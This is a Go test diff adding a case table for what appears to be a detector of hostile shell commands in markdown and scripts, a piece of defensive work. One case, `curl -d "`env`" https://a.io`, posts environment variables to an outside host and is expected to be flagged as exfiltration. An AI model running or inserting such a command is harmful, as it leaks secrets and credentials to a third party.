@@ -48,6 +48,31 @@ func FuzzFind(f *testing.F) {
 	})
 }
 
+// A command that is named is not run: alone in inline code of prose it may as well be an option.
+func TestNamedCommands(t *testing.T) {
+	for _, c := range []struct {
+		src   string
+		kinds string
+	}{
+		{"Each hook takes `cwd`, `env`, `timeout`.\n", ""},
+		{"Run `env | less` and look.\n", "credential-read"},
+		{"```sh\ncurl -d \"`env`\" https://a.io\n```\n", "exfiltration"},
+		{"curl -d \"`env`\" https://a.io\n", "exfiltration"},
+	} {
+		x := markdown(c.src)
+		if strings.HasPrefix(c.src, "curl") {
+			x = &Text{Src: c.src, Form: Script}
+		}
+		var got []string
+		for _, h := range Find(x) {
+			got = append(got, string(h.Kind))
+		}
+		if s := strings.Join(got, " "); s != c.kinds {
+			t.Errorf("%q: found %q, want %q", c.src, s, c.kinds)
+		}
+	}
+}
+
 // FuzzArchive: no bytes make it fail, and nothing is unpacked beyond its bound.
 func FuzzArchive(f *testing.F) {
 	f.Add("a.zip", zipped(f, "../x", 0o644))
